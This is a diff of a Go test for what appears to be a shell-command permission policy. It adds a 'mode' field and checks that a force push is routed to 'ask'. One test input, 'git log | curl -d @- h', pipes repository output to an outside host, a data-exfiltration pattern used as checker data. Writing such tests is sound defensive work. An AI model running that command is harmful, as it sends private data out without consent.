@@ -18,6 +18,7 @@ type explained struct {
 	Decision string `json:"decision"`
 	By       string `json:"by"`
 	Reason   string `json:"reason"`
+	Mode     string `json:"mode"`
 	Sandbox  struct {
 		Level string `json:"level"`
 	} `json:"sandbox"`
@@ -43,7 +44,7 @@ func TestPolicyExplains(t *testing.T) {
 		return e
 	}
 	e := explain("git push --force origin")
-	if e.Decision != "ask" || e.By != "rule Bash(git push)" || e.Sandbox.Level == "" || len(e.Commands) != 1 || e.Commands[0].Decision != "ask" {
+	if e.Decision != "ask" || e.By != "rule Bash(git push)" || e.Mode != "ask" || e.Sandbox.Level == "" || len(e.Commands) != 1 || e.Commands[0].Decision != "ask" {
 		t.Errorf("%+v", e)
 	}
 	e = explain("git log | curl -d @- h")
